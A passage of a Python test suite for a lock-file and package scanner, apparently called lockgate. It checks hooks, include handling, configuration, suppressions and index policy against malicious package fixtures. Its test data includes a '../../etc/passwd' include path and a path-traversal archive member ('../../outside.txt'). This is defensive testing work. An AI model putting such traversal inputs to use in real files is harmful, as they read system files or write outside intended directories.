    lets a commit that touches no requirements file through untouched."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    hook = os.path.join(repo.path, ".git", "hooks", "pre-commit")
    shutil.copy(os.path.join(REPO_ROOT, "hooks", "pre-commit"), hook)
    os.chmod(hook, 0o755)
    env = dict(os.environ, LOCKGATE=t.bin, LOCKGATE_FLAGS=" ".join([
        "--index-url", srv.index_url, "--ca-bundle", t.ca.ca_pem,
        "--cache-dir", t.mk("hook-cache"), "--format", "text"]))
    head = repo.git("rev-parse", "HEAD").strip()

    def commit():
        return subprocess.run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@t.invalid",
             "commit", "-q", "-m", "x"], cwd=repo.path, env=env,
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)

    repo.stage({"README": "docs only\n"})
    p = commit()
    if p.returncode != 0:
        raise Fail("a commit without requirement changes was refused:\n" + p.stdout)
    t.expect_no_requests(srv)
    head = repo.git("rev-parse", "HEAD").strip()
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"})
    p = commit()
    if p.returncode == 0 or repo.git("rev-parse", "HEAD").strip() != head:
        raise Fail("the hook let a blocked package be committed:\n" + p.stdout)
    if "exec.decode-exec" not in p.stdout:
        raise Fail("the refused commit did not show the finding:\n" + p.stdout)


@case
def case_staged_index_file(t):
    """GIT_INDEX_FILE points --staged at an alternate index."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    first = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": first})
    alt = os.path.join(t.tmp, "alt-index")
    repo.git("read-tree", "HEAD", env={"GIT_INDEX_FILE": alt})
    repo.stage({"requirements.txt": first + pin(m, "demo-pkg", "1.0") + "\n"}, index_file=alt)
    repo.write({"requirements.txt": first})  # work tree and default index: unchanged
    plain = t.check(repo, index_url=srv.index_url, base=None, head="--staged")
    t.expect(plain, rc=0, subset={"verdict": "pass", "changes": []},
             note="default index has no change")
    t.expect_no_requests(srv)
    res = t.check(repo, index_url=srv.index_url, base=None, head="--staged",
                  env={"GIT_INDEX_FILE": alt})
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"name": "demo-pkg", "kind": "added"}],
        "findings": [finding("exec.decode-exec", package="demo-pkg")],
    }, note="GIT_INDEX_FILE=%s" % alt)


@case
def case_unchanged_lockfile(t):
    """Only README changes: no change, no request at all."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    r = pin(b, BENIGN, "1.0") + "\n"
    repo = t.repo({"requirements.txt": r, "README": "one\n"},
                  {"requirements.txt": r, "README": "two\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "changes": [], "artifacts": [],
                                "findings": [], "errors": []})
    t.expect_no_requests(srv)


@case
def case_unpinned(t):
    """`requests>=2`: lock.unpinned (medium, not blocking), never requested."""
    srv = t.server()
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": "requests>=2\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"name": "requests", "kind": "added", "line": 1}],
        "findings": [finding("lock.unpinned", severity="medium", package="requests",
                             lockfile="requirements.txt", lockfile_line=1)],
    })
    t.expect_no_requests(srv)


@case
def case_include_changed(t):
    """requirements.txt is unchanged, but the base.in it includes (-r, not
    itself a lock name) gains a pin: the change is found, in base.in, and
    checked."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    top = reqs("# app", "-r deps/base.in")
    repo = t.repo({"requirements.txt": top, "deps/base.in": "# shared\n"},
                  {"requirements.txt": top,
                   "deps/base.in": reqs("# shared", pin(m, "demo-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"lockfile": "deps/base.in", "line": 2, "name": "demo-pkg",
                     "kind": "added"}],
        "findings": [finding("exec.decode-exec", lockfile="deps/base.in",
                             lockfile_line=2)],
    })


@case
def case_constraint_changed(t):
    """-c: a constraints file pins what requirements.txt leaves open; a
    change only in constraints.txt is an upgrade, at the constraint's line;
    the diff command shows it too."""
    srv = t.server()
    b1, b2 = benign("1.0"), benign("2.0")
    srv.add(BENIGN, "2.0", [b2])
    top = reqs("-c constraints.txt", BENIGN)
    repo = t.repo({"requirements.txt": top,
                   "constraints.txt": reqs("# pins", pin(b1, BENIGN, "1.0"))},
                  {"requirements.txt": top,
                   "constraints.txt": reqs("# pins", pin(b2, BENIGN, "2.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "changes": [{"lockfile": "constraints.txt", "line": 2, "name": BENIGN,
                     "old": "1.0", "new": "2.0", "kind": "upgraded"}],
        "artifacts": [{"package": BENIGN, "version": "2.0", "sha256": b2.sha256}],
    }, no_findings=[{"rule": "lock.unpinned"}])
    res = t.run("diff", "--repo", repo.path, "--format", "json")
    t.expect(res, rc=0, subset={"changes": [{"name": BENIGN, "kind": "upgraded",
                                             "lockfile": "constraints.txt"}]})


@case
def case_include_cycle_and_outside(t):
    """Includes that form a cycle, leave the repository or do not exist end
    without error; the entries read before still count."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": reqs("-r a.txt", "-r ../../etc/passwd",
                                            "-r missing.txt"),
                   "a.txt": reqs("-r requirements.txt")},
                  {"a.txt": reqs("-r requirements.txt", pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass", "errors": [],
        "changes": [{"lockfile": "a.txt", "line": 2, "name": BENIGN, "kind": "added"}],
    })


@case
def case_include_symlink(t):
    """An included file that is a symlink is followed inside the revision,
    as pip follows it on disk: a pin added behind the link is found (and
    named by the path the include wrote)."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    repo = t.repo({"requirements.txt": reqs("-r pins.txt"),
                   "deps/real.txt": "# none\n"})
    os.symlink("deps/real.txt", os.path.join(repo.path, "pins.txt"))
    repo.git("add", "pins.txt")
    repo.git("commit", "-q", "-m", "link")
    repo.commit({"deps/real.txt": reqs("# none", pin(m, "demo-pkg", "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "changes": [{"lockfile": "pins.txt", "line": 2, "name": "demo-pkg",
                     "kind": "added"}],
    })
    # A symlink loop is past LG_MAX_SYMLINK_HOPS: incomplete, never a pass.
    loop = t.repo({"README": "x\n"})
    os.symlink("b.txt", os.path.join(loop.path, "a.txt"))
    os.symlink("a.txt", os.path.join(loop.path, "b.txt"))
    loop.git("add", "a.txt", "b.txt")
    loop.git("commit", "-q", "-m", "loop")
    loop.commit({"requirements.txt": reqs("-r a.txt", pin(m, "demo-pkg", "1.0"))})
    res = t.check(loop, index_url=srv.index_url)
    if res.rc != 2 or "symlinks" not in res.stdout:
        raise Fail("a symlink loop must leave the check incomplete\n" + res.describe())


@case
def case_discovery_content_and_vendored(t):
    """A *.lock is read by content (a uv lock named deps/prod.lock counts;
    Cargo.lock and yarn.lock do not, and cause no error); lock files under
    vendor/, node_modules/ or .venv/ are someone else's and are skipped."""
    srv = t.server()
    b, m = benign(), L.demo_sdist()
    srv.add(BENIGN, "1.0", [b])
    srv.add("demo-pkg", "1.0", [m])
    vendored = reqs(pin(m, "demo-pkg", "1.0"))
    repo = t.repo({"README": "x\n"},
                  {"deps/prod.lock": uv_lock((b, BENIGN, "1.0")),
                   "Cargo.lock": 'version = 3\n[[package]]\nname = "x"\nversion = "1"\n',
                   "web/yarn.lock": '# yarn lockfile v1\n"a@^1":\n  version "1.0"\n',
                   "vendor/requirements.txt": vendored,
                   "web/node_modules/x/requirements.txt": vendored,
                   ".venv/lib/site-packages/y/requirements.txt": vendored})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass", "errors": [],
        "changes": [{"lockfile": "deps/prod.lock", "name": BENIGN, "kind": "added"}],
    })
    if len(res.json["changes"]) != 1:
        raise Fail("expected one change\n" + res.describe())
    t.expect_requested(srv, "demo-pkg", present=False)


@case
def case_config_paths(t):
    """.lockgate.toml exclude drops a path from discovery; [tool.lockgate]
    include in pyproject.toml selects paths of any name; --config names
    another file."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    bad = reqs(pin(m, "demo-pkg", "1.0"))
    repo = t.repo({".lockgate.toml": 'exclude = ["legacy/**"]\n', "README": "x\n"},
                  {"legacy/requirements.txt": bad})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass", "changes": []}, note="excluded")
    t.expect_no_requests(srv)
    # The same repository with --config pointing at an empty file: found.
    empty = os.path.join(t.tmp, "empty.toml")
    with open(empty, "w") as f:
        f.write("# defaults\n")
    res = t.check(repo, "--config", empty, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"changes": [{"lockfile": "legacy/requirements.txt"}]})
    # include: only services/**, whatever the name.
    py = '[project]\nname = "app"\n[tool.lockgate]\ninclude = ["services/**"]\n'
    repo2 = t.repo({"pyproject.toml": py, "README": "x\n"},
                   {"services/api/deps.pins.txt": bad, "requirements.txt": bad})
    res = t.check(repo2, index_url=srv.index_url)
    t.expect(res, rc=1, subset={"changes": [{"lockfile": "services/api/deps.pins.txt"}]})
    if len(res.json["changes"]) != 1:
        raise Fail("requirements.txt is outside include\n" + res.describe())


@case
def case_config_policy_and_suppressions(t):
    """fail-on, warn-only and [rules] from the configuration move the
    verdict (the command line wins); a [[suppress]] entry hides one rule's
    findings with its reason until it expires, then a low finding names
    file:line; an entry that matched nothing is reported (info)."""
    srv = t.server()
    m = L.demo_sdist()
    srv.add("demo-pkg", "1.0", [m])
    sup = ('[[suppress]]\nrule = "exec.decode-exec"\npackage = "Demo_Pkg"\n'
           'version = "1.0"\nsha256 = "%s"\nreason = "inert test fixture"\n'
           'expires = 2027-01-31\n\n'
           '[[suppress]]\nrule = "obf.encoded-code"\npackage = "demo-pkg"\n'
           'version = "1.0"\nreason = "the same payload"\n' % m.sha256)
    repo = t.repo({".lockgate.toml": sup, "README": "x\n"},
                  {"requirements.txt": reqs(pin(m, "demo-pkg", "1.0"))})
    today = {"LOCKGATE_TODAY": "2026-11-28"}
    res = t.check(repo, index_url=srv.index_url, env=today)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "findings": [finding("install.cmdclass-override", severity="medium")],
        "suppressed": [finding("exec.decode-exec", severity="critical",
                               package="demo-pkg", file=m.filename,
                               suppression={"reason": "inert test fixture",
                                            "origin": ".lockgate.toml:1"}),
                       finding("obf.encoded-code",
                               suppression={"origin": ".lockgate.toml:9"})],
        "summary": {"suppressed": 2, "disabled": 0},
    }, no_findings=[{"rule": "exec.decode-exec"}, {"rule": "obf.encoded-code"}],
        note="suppressed")
    res = t.check(repo, index_url=srv.index_url, env=today, fmt="text")
    if "inert test fixture" not in res.stdout or "2 suppressed" not in res.stdout:
        raise Fail("text: expected the reason and the count\n" + res.describe())
    # The last day still counts; the day after, the finding is back and
    # the expiry is a low finding on the configuration's line.
    res = t.check(repo, index_url=srv.index_url, env={"LOCKGATE_TODAY": "2027-01-31"})
    t.expect(res, rc=0, note="last day")
    res = t.check(repo, index_url=srv.index_url, env={"LOCKGATE_TODAY": "2027-02-01"})
    t.expect(res, rc=1, subset={
        "verdict": "block", "suppressed": [finding("obf.encoded-code")],
        "findings": [finding("exec.decode-exec"),
                     finding("config.suppression-expired", severity="low",
                             package="demo-pkg", lockfile=".lockgate.toml",
                             lockfile_line=1)],
    }, note="expired")
    res = t.check(repo, index_url=srv.index_url, env={"LOCKGATE_TODAY": "2027-02-01"},
                  fmt="text")
    if ".lockgate.toml:1" not in res.stdout or "expired" not in res.stdout:
        raise Fail("text: the expiry must name .lockgate.toml:1\n" + res.describe())

    def cfg(name, text):
        path = os.path.join(t.tmp, name)
        with open(path, "w") as f:
            f.write(text)
        return path

    # Near miss: another file's sha256 hides nothing, and says so (info).
    other = cfg("other.toml", sup.replace(m.sha256, "0" * 64))
    res = t.check(repo, "--config", other, index_url=srv.index_url, env=today)
    t.expect(res, rc=1, subset={
        "suppressed": [finding("obf.encoded-code")],
        "findings": [finding("exec.decode-exec"),
                     finding("config.suppression-unused", severity="info",
                             lockfile=other, lockfile_line=1)],
    }, note="unused")
    # fail-on from the configuration; --fail-on on the command line wins.
    medium = cfg("medium.toml", 'fail-on = "medium"\n' + sup)
    res = t.check(repo, "--config", medium, index_url=srv.index_url, env=today)
    t.expect(res, rc=1, subset={"verdict": "block", "policy": {"fail_on": "medium"}})
    res = t.check(repo, "--config", medium, "--fail-on", "high",
                  index_url=srv.index_url, env=today)
    t.expect(res, rc=0, subset={"verdict": "pass", "policy": {"fail_on": "high"}})
    # warn-only: the report still says block, the exit is 0.
    res = t.check(repo, "--config", cfg("warn.toml", "warn-only = true\n"),
                  index_url=srv.index_url, env=today)
    t.expect(res, rc=0, subset={"verdict": "block"})
    # [rules]: disabled prefixes drop findings (counted); a re-graded rule
    # moves the verdict.
    rules = cfg("rules.toml", '[rules]\ndisable = ["exec.*", "obf.*"]\n')
    res = t.check(repo, "--config", rules, index_url=srv.index_url, env=today)
    t.expect(res, rc=0, subset={"verdict": "pass"},
             no_findings=[{"rule": "exec.decode-exec"}, {"rule": "obf.encoded-code"}],
             note="disabled")
    if res.json["summary"]["disabled"] < 2:
        raise Fail("expected the disabled findings counted\n" + res.describe())
    rules = cfg("rules2.toml", '[rules]\ndisable = ["exec.*", "obf.*"]\n'
                '"install.cmdclass-override" = "high"\n')
    res = t.check(repo, "--config", rules, index_url=srv.index_url, env=today)
    t.expect(res, rc=1, subset={
        "findings": [finding("install.cmdclass-override", severity="high")],
    }, note="re-graded")
    # SARIF: a suppressed result carries a suppression of kind external.
    res = t.check(repo, index_url=srv.index_url, env=today, fmt="sarif")
    results = json.loads(res.stdout)["runs"][0]["results"]
    sup_res = [r for r in results if r["ruleId"] == "exec.decode-exec"]
    if res.rc != 0 or len(sup_res) != 1 or sup_res[0].get("suppressions") != [{
            "kind": "external", "status": "accepted",
            "justification": "inert test fixture",
            "properties": {"origin": ".lockgate.toml:1"}}]:
        raise Fail("sarif: expected an external suppression\n" + res.describe())


@case
def case_config_command(t):
    """lockgate config prints the effective configuration (defaults
    included) and refuses what check would refuse, naming file and line."""
    repo = t.repo({".lockgate.toml": 'jobs = 4\n[rules]\n"obf.packer" = "low"\n',
                   "README": "x\n"})
    res = t.run("config", "--repo", repo.path)
    for want in ('# read from ".lockgate.toml"', "jobs = 4\n", "cooldown-days = 2\n",
                 'fail-on = "high"  # default', '"obf.packer" = "low"'):
        if res.rc != 0 or want not in res.stdout:
            raise Fail("config: expected %r\n%s" % (want, res.describe()))
    bad = os.path.join(t.tmp, "bad.toml")
    with open(bad, "w") as f:
        f.write('\n[[suppress]]\nrule = "hash.mismatch"\npackage = "x"\n'
                'version = "1"\nreason = "r"\n')
    res = t.run("config", "--config", bad)
    if res.rc != 3 or "bad.toml:2: rule 'hash.mismatch' cannot be suppressed" not in res.stderr:
        raise Fail("expected exit 3 naming bad.toml:2\n" + res.describe())
    res = t.run("diff", "--repo", repo.path, "--base", "HEAD", "--head", "HEAD",
                "--config", bad)
    if res.rc != 3:
        raise Fail("diff: expected exit 3\n" + res.describe())
    with open(bad, "w") as f:
        f.write('[rules]\ndisable = ["net.webhook"]\n')
    res = t.run("config", "--config", bad)
    if res.rc != 3 or "bad.toml:2: 'net.webhook' names no rule" not in res.stderr:
        raise Fail("expected unknown rule error\n" + res.describe())


@case
def case_config_errors(t):
    """An unknown key or a bad value is a configuration error naming file
    and line: exit 3, for check and diff, and nothing is fetched."""
    srv = t.server()
    repo = t.repo({".lockgate.toml": 'include = ["a"]\nfail_on = "high"\n',
                   "requirements.txt": "x==1\n"})
    res = t.check(repo, index_url=srv.index_url, base="HEAD", head="HEAD")
    if res.rc != 3 or ".lockgate.toml:2: unknown key 'fail_on'" not in res.stderr:
        raise Fail("expected exit 3 naming .lockgate.toml:2\n" + res.describe())
    res = t.run("diff", "--repo", repo.path, "--base", "HEAD", "--head", "HEAD")
    if res.rc != 3:
        raise Fail("diff: expected exit 3\n" + res.describe())
    cfg = os.path.join(t.tmp, "c.toml")
    with open(cfg, "w") as f:
        f.write('# ok\nexclude = "legacy"\n')
    res = t.run("diff", "--repo", repo.path, "--base", "HEAD", "--head", "HEAD",
                "--config", cfg)
    if res.rc != 3 or "c.toml:2: 'exclude' must be an array" not in res.stderr:
        raise Fail("--config: expected exit 3\n" + res.describe())
    res = t.run("diff", "--repo", repo.path, "--config", os.path.join(t.tmp, "none.toml"))
    if res.rc != 3:
        raise Fail("missing --config file: expected exit 3\n" + res.describe())
    t.expect_no_requests(srv)


@case
def case_pyproject_unlocked(t):
    """A changed pyproject.toml: a dependency no lock pins is
    lock.dep-not-locked and each build requirement is
    lock.build-requires-unpinned, both low, with file and line; neither
    blocks."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    lock = uv_lock((b, BENIGN, "1.0"))
    py1 = ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
           '[project]\nname = "app"\ndependencies = ["benign-pkg"]\n')
    py2 = py1.replace('["benign-pkg"]', '[\n  "benign-pkg",\n  "requests>=2",\n]')
    repo = t.repo({"uv.lock": lock, "pyproject.toml": py1},
                  {"pyproject.toml": py2})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass", "changes": [],
        "findings": [finding("lock.dep-not-locked", severity="low", package="requests",
                             lockfile="pyproject.toml", lockfile_line=8),
                     finding("lock.build-requires-unpinned", severity="low",
                             package="hatchling", lockfile="pyproject.toml",
                             lockfile_line=2)],
    }, no_findings=[{"rule": "lock.dep-not-locked", "package": BENIGN}])
    t.expect_no_requests(srv)


@case
def case_sdist_only_build_requires(t):
    """A changed package that ships only an sdist: pip builds it and fetches
    its build requirements unpinned (low); with a wheel on the index, no
    such finding."""
    srv = t.server()
    s = L.sdist(BENIGN, "1.0", extra={"pyproject.toml": '[build-system]\n'
                                      'requires = ["setuptools>=61", "cython"]\n'})
    srv.add(BENIGN, "1.0", [s])
    repo = t.repo({"requirements.txt": ""},
                  {"requirements.txt": pin(s, BENIGN, "1.0") + "\n"})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "findings": [finding("lock.build-requires-unpinned", severity="low",
                             package=BENIGN, line=2)],
    })
    msg = [f["message"] for f in res.json["findings"]
           if f["rule"] == "lock.build-requires-unpinned"]
    if not msg or "cython" not in msg[0]:
        raise Fail("the message should list the build requirements\n" + res.describe())
    srv2 = t.server()
    w = L.wheel(BENIGN, "1.0")
    srv2.add(BENIGN, "1.0", [w, s])
    res = t.check(repo, index_url=srv2.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass"},
             no_findings=[{"rule": "lock.build-requires-unpinned"}])


def _wheel_case(t, name, version, pth, extra=None):
    srv = t.server()
    w = L.wheel(name, version, pth=pth, extra=extra)
    srv.add(name, version, [w])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": pin(w, name, version) + "\n"})
    return w, t.check(repo, index_url=srv.index_url)


@case
def case_wheel_pth_malicious(t):
    w, res = _wheel_case(t, "pthdemo", "1.0", {"pthdemo_init.pth": L.MALICIOUS_PTH})
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "artifacts": [{"package": "pthdemo", "file": w.filename, "verdict": "block"}],
        "findings": [finding("wheel.pth-exec-line", severity=OneOf(*BLOCKING),
                             package="pthdemo", file=w.filename, path="pthdemo_init.pth",
                             line=1)],
    })


@case
def case_wheel_pth_distutils(t):
    """setuptools' own distutils-precedence.pth is an allowed template."""
    _, res = _wheel_case(t, "setuptools", "69.0.3",
                         {"distutils-precedence.pth": L.DISTUTILS_PRECEDENCE_PTH},
                         extra={"_distutils_hack/__init__.py":
                                "def add_shim():\n    return None\n"})
    t.expect(res, rc=0, subset={"verdict": "pass"},
             no_findings=[{"severity": OneOf(*BLOCKING)}])


@case
def case_scan_zip_named_targz(t):
    """`scan` detects a zip by magic even when it is named .tar.gz."""
    a = L.demo_sdist(container="zip", filename="demo_pkg-1.0.tar.gz")
    path = os.path.join(t.tmp, a.filename)
    with open(path, "wb") as f:
        f.write(a.data)
    res = t.run("scan", "--format", "json", path)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [],
        "artifacts": [{"sha256": a.sha256, "verdict": "block"}],
        "findings": [finding("exec.decode-exec", path="demo_pkg-1.0/setup.py")],
    })


@case
def case_scan_json_shape(t):
    b = benign()
    path = os.path.join(t.tmp, b.filename)
    with open(path, "wb") as f:
        f.write(b.data)
    res = t.run("scan", "--format", "json", path)
    t.expect(res, rc=0, subset={
        "schema": 1, "tool": {"name": "lockgate", "version": "0.1.0"},
        "verdict": "pass", "changes": [], "artifacts": [{"sha256": b.sha256, "verdict": "pass"}],
        "findings": ANY, "errors": [],
    })
    doc = res.json
    if len(doc["artifacts"]) != 1 or not isinstance(doc.get("findings"), list):
        raise Fail("expected one artifact and a findings array\n" + res.describe())
    if not str(doc["artifacts"][0].get("file", "")).endswith(b.filename):
        raise Fail("artifact file should name the scanned path\n" + res.describe())


@case
def case_scan_unsafe_member(t):
    """An sdist with a ../ member is archive.unsafe-member (critical)."""
    raw = L._tar_gz([("evil-1.0/PKG-INFO", L.pkg_info("evil", "1.0")),
                     ("evil-1.0/../../outside.txt", "x\n")])
    path = os.path.join(t.tmp, "evil-1.0.tar.gz")
    with open(path, "wb") as f:
        f.write(raw)
    res = t.run("scan", "--format", "json", path)
    t.expect(res, rc=1, subset={"verdict": "block",
                                "findings": [finding("archive.unsafe-member", severity="critical")]})
    if os.path.exists(os.path.join(os.path.dirname(t.tmp), "outside.txt")):
        raise Fail("scan wrote outside.txt next to the temp dir")


@case
def case_scan_missing_path(t):
    """A path that cannot be read is incomplete (never a silent pass)."""
    missing = os.path.join(t.tmp, "nope-1.0.tar.gz")
    res = t.run("scan", "--format", "json", missing)
    t.expect(res, rc=2, subset={"verdict": "incomplete", "errors": [{"message": ANY}],
                                "artifacts": [{"verdict": "incomplete"}]})


@case
def case_help_version(t):
    for argv in (["--help"], ["version"]):
        res = t.run(*argv)
        t.expect(res, rc=0, note=" ".join(argv))
        if argv == ["version"] and "0.1.0" not in res.stdout:
            raise Fail("version does not print 0.1.0\n" + res.describe())
        if argv == ["--help"] and "check" not in res.stdout + res.stderr:
            raise Fail("--help does not mention `check`\n" + res.describe())


@case
def case_usage_errors(t):
    for argv in (["check", "--no-such-option"], ["--no-such-option"], ["no-such-command"],
                 ["check", "--format", "yaml"], ["check", "--head", "HEAD", "--staged"]):
        res = t.run(*argv)
        t.expect(res, rc=3, note=" ".join(argv))


@case
def case_corpus_scan(t):
    """A real malware sample goes only through `lockgate scan`, which must leave no file behind."""
    if not os.path.exists(CORPUS_INDEX):
        raise Skip("corpus absent (%s)" % CORPUS_INDEX)
    with open(CORPUS_INDEX, newline="") as f:
        first = next(csv.DictReader(f, delimiter="\t"))
    sample = os.path.join(os.path.dirname(CORPUS_INDEX), first["file"])
    dirs = {k: t.mk("empty-" + k.lower()) for k in ("CWD", "HOME", "TMPDIR", "XDG_CACHE_HOME")}
    res = t.run("scan", "--format", "json", sample, cwd=dirs["CWD"],
                env={"HOME": dirs["HOME"], "TMPDIR": dirs["TMPDIR"],
                     "XDG_CACHE_HOME": dirs["XDG_CACHE_HOME"]})
    t.expect(res, rc={0, 1, 2}, subset={"changes": [], "artifacts": [ANY]})
    if len(res.json["artifacts"]) != 1:
        raise Fail("expected exactly one artifact\n" + res.describe())
    left = {k: os.listdir(d) for k, d in dirs.items() if os.listdir(d)}
    if left:
        raise Fail("scan left files behind: %r" % left)
    print("    corpus sample %s: exit %d, verdict %s" % (first["file"], res.rc,
                                                         res.json.get("verdict")))


# ------------------------------------------------- sinks and integrations ----

# A github-format stdout line: one of our commands or the verdict line.
GH_LINE = re.compile(r"^(::(error|warning|notice) [^\n]*|lockgate: verdict [a-z]+: [^\n]*)$")
ZERO_SHA = "0" * 40


# ---------------------------------------------------- lock policy (issue 7) ----

def _blocking_none():
    return [{"severity": OneOf(*BLOCKING)}]


@case
def case_policy_rehashed(t):
    """The same version with a hash replaced: lock.rehashed (high) on its
    line, exit 1. Near case: a hash only added (a wheel uploaded later) is
    medium and passes."""
    srv = t.server()
    s1 = benign()
    s2 = L.sdist(BENIGN, "1.0", module="VALUE = 2\n")
    w = L.wheel(BENIGN, "1.0")
    srv.add(BENIGN, "1.0", [s2, w])
    old = reqs("# deps", pin(s1, BENIGN, "1.0"))
    repo = t.repo({"requirements.txt": old},
                  {"requirements.txt": reqs("# deps", pin(s2, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "changes": [{"name": BENIGN, "kind": "rehashed", "line": 2}],
        "findings": [finding("lock.rehashed", severity="high", package=BENIGN,
                             lockfile="requirements.txt", lockfile_line=2)],
    })
    both = pin(s2, BENIGN, "1.0") + " --hash=sha256:" + w.sha256
    repo = t.repo({"requirements.txt": reqs(pin(s2, BENIGN, "1.0"))},
                  {"requirements.txt": reqs(both)})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "findings": [finding("lock.rehashed", severity="medium", lockfile_line=1)],
    }, no_findings=_blocking_none())


@case
def case_policy_weak_hash(t):
    """An md5-only pin: lock.weak-hash (medium) and the entry is checked as
    unhashed (the sdist is fetched); md5 beside sha256 is low."""
    srv = t.server()
    s = benign()
    srv.add(BENIGN, "1.0", [s])
    md5 = "benign-pkg==1.0 --hash=md5:0123456789abcdef0123456789abcdef"
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(md5)})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "artifacts": [{"package": BENIGN, "file": s.filename}],
        "findings": [finding("lock.weak-hash", severity="medium", lockfile_line=1)],
        "errors": [],
    }, no_findings=_blocking_none())
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        pin(s, BENIGN, "1.0") + " --hash=md5:0123456789abcdef0123456789abcdef")})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "artifacts": [{"package": BENIGN, "verdict": "pass"}],
        "findings": [finding("lock.weak-hash", severity="low")],
    }, no_findings=_blocking_none() + [{"rule": "lock.unhashed"}])


@case
def case_policy_allowed_index_host(t):
    """--allowed-index-host: an entry from another index is high; entries
    from the allowed host (the default index's host counts) pass."""
    srv = t.server()
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        "--index-url https://mirror.example.invalid/simple", "", pin(b, BENIGN, "1.0"))})
    res = t.check(repo, "--allowed-index-host", "127.0.0.1", index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "verdict": "block",
        "findings": [finding("policy.index-host", severity="high", package=BENIGN,
                             lockfile="requirements.txt", lockfile_line=3,
                             message=Contains("mirror.example.invalid"))],
    })
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(pin(b, BENIGN, "1.0"))})
    res = t.check(repo, "--allowed-index-host", "pypi.org",
                  "--allowed-index-host", "127.0.0.1", index_url=srv.index_url)
    t.expect(res, rc=0, subset={"verdict": "pass"},
             no_findings=[{"rule": "policy.index-host"}])
    res = t.check(repo, "--allowed-index-host", "https://pypi.org/simple",
                  index_url=srv.index_url)
    t.expect(res, rc=3)


@case
def case_policy_insecure_index(t):
    """An http:// index in the lock is high; https is not reported."""
    srv = t.server(http=True)
    b = benign()
    srv.add(BENIGN, "1.0", [b])
    # The lock's own index is the one read (over --index-url); plain http
    # is read only with --allow-insecure-index, and is high either way.
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        "-i " + srv.http_simple_url, pin(b, BENIGN, "1.0"))})
    res = t.check(repo, "--allow-insecure-index", index_url=srv.index_url)
    t.expect(res, rc=1, subset={
        "findings": [finding("policy.insecure-url", severity="high", lockfile_line=2)],
    })
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        "-i " + srv.simple_url, pin(b, BENIGN, "1.0"))})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, no_findings=[{"rule": "policy.insecure-url"}])


@case
def case_policy_direct_and_vcs(t):
    """A direct URL is medium; a VCS branch is medium, a VCS commit low;
    git:// is high. None of them is fetched."""
    srv = t.server()
    commit = "0123456789abcdef0123456789abcdef01234567"
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
        "x-url @ https://files.example.invalid/x_url-1.0.tar.gz",
        "x-branch @ git+https://git.example.invalid/x-branch@main",
        "x-commit @ git+https://git.example.invalid/x-commit@" + commit)})
    res = t.check(repo, index_url=srv.index_url)
    t.expect(res, rc=0, subset={
        "verdict": "pass",
        "findings": [
            finding("policy.direct-url", severity="medium", package="x-url", lockfile_line=1),
            finding("policy.vcs-ref", severity="medium", package="x-branch", lockfile_line=2),
            finding("policy.vcs-ref", severity="low", package="x-commit", lockfile_line=3),
        ],
    }, no_findings=_blocking_none())
    t.expect_no_requests(srv)
    repo = t.repo({"requirements.txt": ""}, {"requirements.txt": reqs(
